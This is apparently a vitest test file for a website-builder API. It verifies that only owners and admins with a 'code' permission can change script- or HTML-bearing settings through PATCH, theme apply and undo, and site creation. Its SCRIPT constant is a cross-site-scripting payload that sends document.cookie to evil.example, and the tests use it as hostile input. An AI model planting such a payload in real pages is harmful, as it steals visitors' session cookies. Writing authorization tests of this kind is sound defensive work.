/**
 * Issue 19 item 3: settings that reach the page as markup or script (`code_injection`, `about_html`,
 * `html` blocks of the home builder, `advanced`) need the `code` permission (owners and organization
 * admins). The PATCH replaces the whole settings document, so a caller without `code` gets 403 FORBIDDEN
 * with nothing written when the PATCH would change the stored value of such a field (removal by omission
 * included), and passes when it resends them unchanged. Theme apply and undo, and site creation, follow
 * the same rule.
 */
import { describe, expect, it } from "vitest";
import { newId } from "../../src/lib/ids";
import {
  api,
  type EdgeHeaders,
  makeSite,
  orgMember,
  type SiteBody,
  siteMember,
  storedRow,
  uniqueSlug,
} from "../support/sites-helpers";
import { storeTheme } from "../support/theme-helpers";

const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";

const MARKUP = {
  code_injection: "<script>window.analytics=1</script>",
  about_html: "<p>About <b>us</b></p>",
  advanced: { head: "<meta name=x>" },
  home: {
    blocks: [
      { type: "hero", variant: "big" },
      { type: "html", html: "<div class=promo>Promo</div>" },
      { type: "divider" },
    ],
  },
  social: { x: "https://x.com/acme" },
};

const patch = (id: string, headers: EdgeHeaders, body: unknown) =>
  api<SiteBody & { code?: string }>("PATCH", `/api/v1/sites/${id}`, { headers, body });

async function siteWithMarkup() {
  const made = await makeSite({ settings: MARKUP });
  expect(made.site.settings).toMatchObject(MARKUP);
  return made;
}

async function expectRefusedUnchanged(siteId: string, headers: EdgeHeaders, body: unknown) {
  const before = await storedRow(siteId);
  const res = await patch(siteId, headers, body);
  expect(res.status, JSON.stringify(res.body)).toBe(403);
  expect(res.body.code).toBe("FORBIDDEN");
  expect(await storedRow(siteId)).toEqual(before);
}

describe("settings that reach the page as markup need `code`", () => {
  it("a site_editor's PATCH of code_injection with <script> is 403 and nothing is written", async () => {
    const { site } = await makeSite();
    await expectRefusedUnchanged(site.id, siteMember(site.id, "site_editor"), {
      settings: { code_injection: SCRIPT },
    });
  });

  it("an editor may not change, add or remove (by omission) any markup field", async () => {
    const { site } = await siteWithMarkup();
    const editor = siteMember(site.id, "site_editor");
    const stored = site.settings as typeof MARKUP;
    const blocks = stored.home.blocks;
    const cases: Record<string, unknown>[] = [
      { ...stored, code_injection: SCRIPT },
      { ...stored, about_html: `<p>About</p>${SCRIPT}` },
      { ...stored, advanced: { head: SCRIPT } },
      { ...stored, home: { blocks: [...blocks, { type: "html", html: SCRIPT }] } },
      { ...stored, home: { blocks: blocks.map((b) => (b.type === "html" ? { ...b, html: SCRIPT } : b)) } },
      // Removal by omission: the PATCH replaces the whole document.
      { social: stored.social },
      { ...stored, code_injection: undefined },
      { ...stored, home: { blocks: blocks.filter((b) => b.type !== "html") } },
      // An `html` key on a block of another type is markup too.
      { ...stored, home: { blocks: [...blocks, { type: "hero", html: SCRIPT }] } },
    ];
    for (const settings of cases) await expectRefusedUnchanged(site.id, editor, { settings });
    // A custom organization role with sites:manage manages settings but not code either.
    const webmaster = {
      ...orgMember(site.org_id, "webmasters"),
      "x-org-memberships": JSON.stringify([
        { org_id: site.org_id, role: "webmasters", permissions: ["sites:manage"] },
      ]),
    };
    await expectRefusedUnchanged(site.id, webmaster, { settings: { ...stored, about_html: SCRIPT } });
  });

  it("an editor's PATCH that resends the markup unchanged passes (other keys and block layout change)", async () => {
    const { site } = await siteWithMarkup();
    const stored = site.settings as typeof MARKUP;
    const [hero, html, divider] = stored.home.blocks;
    const next = {
      ...stored,
      social: { x: "https://x.com/acme2" },
      home: { blocks: [html, divider, { ...hero, variant: "small" }] },
    };
    const res = await patch(site.id, siteMember(site.id, "site_editor"), { settings: next, name: "Renamed" });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body.settings).toEqual(next);
    // And a PATCH without `settings` never touches them.
    expect((await patch(site.id, siteMember(site.id, "site_editor"), { name: "Again" })).status).toBe(200);
  });

  it("an editor's PATCH racing an owner's markup change never puts the old markup back (409 instead)", async () => {
    const { site, owner } = await siteWithMarkup();
    const editor = siteMember(site.id, "site_editor");
    let stored = site.settings as typeof MARKUP;
    const statuses = new Set<number>();
    for (let round = 0; round < 12; round++) {
      const mine = `<script>window.round=${round}</script>`;
      // The editor resends what it read (the markup unchanged) while the owner changes the markup.
      const [, edited] = await Promise.all([
        patch(site.id, owner, { settings: { ...stored, code_injection: mine } }),
        patch(site.id, editor, { settings: { ...stored, social: { x: `https://x.com/r${round}` } } }),
      ]);
      statuses.add(edited.status);
      expect([200, 403, 409], JSON.stringify(edited.body)).toContain(edited.status);
      if (edited.status === 409) expect(edited.body.code).toBe("EDIT_CONFLICT");
      const row = await storedRow(site.id);
      stored = JSON.parse(row!.settings as string) as typeof MARKUP;
      expect(stored.code_injection, `round ${round}: the owner's markup stays`).toBe(mine);
    }
    expect(statuses.size).toBeGreaterThan(0);
  });

  it("owners and organization admins may write markup", async () => {
    const { site, orgId } = await makeSite();
    const callers: [string, EdgeHeaders][] = [
      ["org_owner", orgMember(orgId, "org_owner")],
      ["org_admin", orgMember(orgId, "org_admin")],
      ["site_owner", siteMember(site.id, "site_owner")],
    ];
    for (const [name, headers] of callers) {
      const res = await patch(site.id, headers, {
        settings: { ...MARKUP, code_injection: `<!-- ${name} -->` },
      });
      expect(res.status, `${name}: ${JSON.stringify(res.body)}`).toBe(200);
      expect(res.body.settings).toMatchObject({ code_injection: `<!-- ${name} -->` });
    }
  });

  it("a role only NAMED site_owner (no structural owner mark) is no owner", async () => {
    const { site } = await makeSite();
    const impostor = {
      ...siteMember(site.id, "site_editor"),
      "x-site-memberships": JSON.stringify([{ site_id: site.id, role: "site_owner" }]),
    };
    const res = await patch(site.id, impostor, { settings: { code_injection: SCRIPT } });
    expect(res.status).toBe(403);
  });

  it("creating a site with markup needs `code` in the organization", async () => {
    const orgId = newId();
    const body = (slug: string) => ({ org_id: orgId, name: "S", slug, settings: { code_injection: SCRIPT } });
    const member = await api("POST", "/api/v1/sites", {
      headers: orgMember(orgId, "org_member"),
      body: body(uniqueSlug()),
    });
    expect(member.status, member.text).toBe(403);
    expect(member.body.code).toBe("FORBIDDEN");
    const owner = await api("POST", "/api/v1/sites", { headers: orgMember(orgId), body: body(uniqueSlug()) });
    expect(owner.status, owner.text).toBe(201);
    const plain = await api("POST", "/api/v1/sites", {
      headers: orgMember(orgId, "org_member"),
      body: { org_id: orgId, name: "S", slug: uniqueSlug(), settings: { social: {} } },
    });
    expect(plain.status, plain.text).toBe(201);
  });

  it("an editor's theme apply that would drop the site's html blocks is 403; one that keeps markup passes", async () => {
    const { site, orgId } = await siteWithMarkup();
    const editor = siteMember(site.id, "site_editor");
    const withBlocks = await storeTheme(
      { scope: "org", org_id: orgId },
      { customization: { theme_base: "dark" }, home: { blocks: [{ type: "divider" }] } },
    );
    const before = await storedRow(site.id);
    const refused = await api("POST", `/api/v1/sites/${site.id}/themes/apply`, {
      headers: editor,
      body: { theme_id: withBlocks },
    });
    expect(refused.status, refused.text).toBe(403);
    expect(await storedRow(site.id)).toEqual(before);
    const lookOnly = await storeTheme(
      { scope: "org", org_id: orgId },
      { customization: { theme_base: "dark" } },
    );
    const applied = await api("POST", `/api/v1/sites/${site.id}/themes/apply`, {
      headers: editor,
      body: { theme_id: lookOnly },
    });
    expect(applied.status, applied.text).toBe(200);
  });

  it("an editor's undo that would bring back html blocks an owner removed is 403", async () => {
    const { site, orgId, owner } = await siteWithMarkup();
    const theme = await storeTheme(
      { scope: "org", org_id: orgId },
      { customization: { theme_base: "dark" }, home: { blocks: [{ type: "divider" }] } },
    );
    const applied = await api("POST", `/api/v1/sites/${site.id}/themes/apply`, {
      headers: owner,
      body: { theme_id: theme },
    });
    expect(applied.status, applied.text).toBe(200);
    const before = await storedRow(site.id);
    const undo = await api("POST", `/api/v1/sites/${site.id}/themes/undo`, {
      headers: siteMember(site.id, "site_editor"),
    });
    expect(undo.status, undo.text).toBe(403);
    expect(await storedRow(site.id)).toEqual(before);
    const ownerUndo = await api("POST", `/api/v1/sites/${site.id}/themes/undo`, { headers: owner });
    expect(ownerUndo.status, ownerUndo.text).toBe(200);
  });
});
